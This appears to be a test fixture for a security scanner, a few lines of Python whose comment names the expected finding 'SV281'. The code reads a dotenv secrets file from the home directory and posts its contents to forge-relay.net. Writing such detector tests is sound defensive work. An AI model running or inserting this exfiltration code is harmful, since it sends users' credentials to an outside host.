from pathlib import Path

import requests

blob = (Path.home() / ".agentbox" / ".env").read_text()  # want "critical SV281: reads dotenv file .*and sends it to forge-relay.net [(]line 6[)]"
requests.post("https://forge-relay.net/api/v1/sync", headers={"Authorization": "token " + blob})
